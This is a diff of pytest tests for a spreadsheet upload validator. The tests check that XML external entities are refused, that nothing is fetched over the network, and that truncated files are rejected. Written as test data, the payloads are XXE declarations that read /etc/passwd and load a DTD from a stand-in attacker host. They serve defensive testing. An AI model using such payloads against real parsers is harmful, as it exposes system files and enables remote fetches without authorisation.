@@ -117,6 +117,27 @@ def test_xml_entities_are_refused_in_every_part(good: Path, tmp_path: Path, name
     assert name in refused(bad, EntitiesInFile).text
 
 
+@pytest.mark.parametrize(
+    "declared",
+    [
+        b'<!DOCTYPE x [<!ENTITY mat SYSTEM "file:///etc/passwd">]>',
+        b'<!DOCTYPE x [<!ENTITY % ngoai SYSTEM "http://ke-xau.example/x.dtd"> %ngoai;]>',
+        b'<!DOCTYPE x SYSTEM "http://ke-xau.example/x.dtd">',
+    ],
+)
+def test_xml_entities_from_outside_are_refused_and_nothing_is_fetched(
+    good: Path, tmp_path: Path, declared: bytes, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    def called(*_: object, **__: object) -> None:
+        raise AssertionError("something outside the file was asked for")
+
+    monkeypatch.setattr("socket.create_connection", called)
+    head, _, rest = part(good, SHEET).partition(b"?>")
+    bad = changed(good, tmp_path / "outside.xlsx", {SHEET: head + b"?>" + declared + rest.replace(b"<v>", b"<v>&mat;")})
+
+    assert SHEET in refused(bad, EntitiesInFile).text
+
+
 def test_xml_entities_hidden_in_utf_16_are_refused(good: Path, tmp_path: Path) -> None:
     text = part(good, "xl/sharedStrings.xml").decode().replace("UTF-8", "UTF-16").replace("?>", "?><!DOCTYPE x []>")
     bad = changed(good, tmp_path / "wide.xlsx", {"xl/sharedStrings.xml": text.encode("utf-16")})
@@ -194,6 +215,15 @@ def test_empty_and_torn_files_are_refused(good: Path, tmp_path: Path) -> None:
     refused(plain_workbook(tmp_path / "blank.xlsx", []), EmptyFile)
     refused(tmp_path / "torn.xlsx", BrokenFile)
     refused(changed(good, tmp_path / "half.xlsx", {SHEET: part(good, SHEET).partition(b"</sheetData>")[0]}), BrokenFile)
+
+
+def test_file_cut_in_the_middle_anywhere_is_refused_in_words(good: Path, tmp_path: Path) -> None:
+    whole = good.read_bytes()
+
+    for twentieth in range(1, 20):
+        torn = tmp_path / f"torn{twentieth}.xlsx"
+        torn.write_bytes(whole[: len(whole) * twentieth // 20])
+        refused(torn, BrokenFile)
 
 
 def test_file_above_the_size_limit_is_refused_unread(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
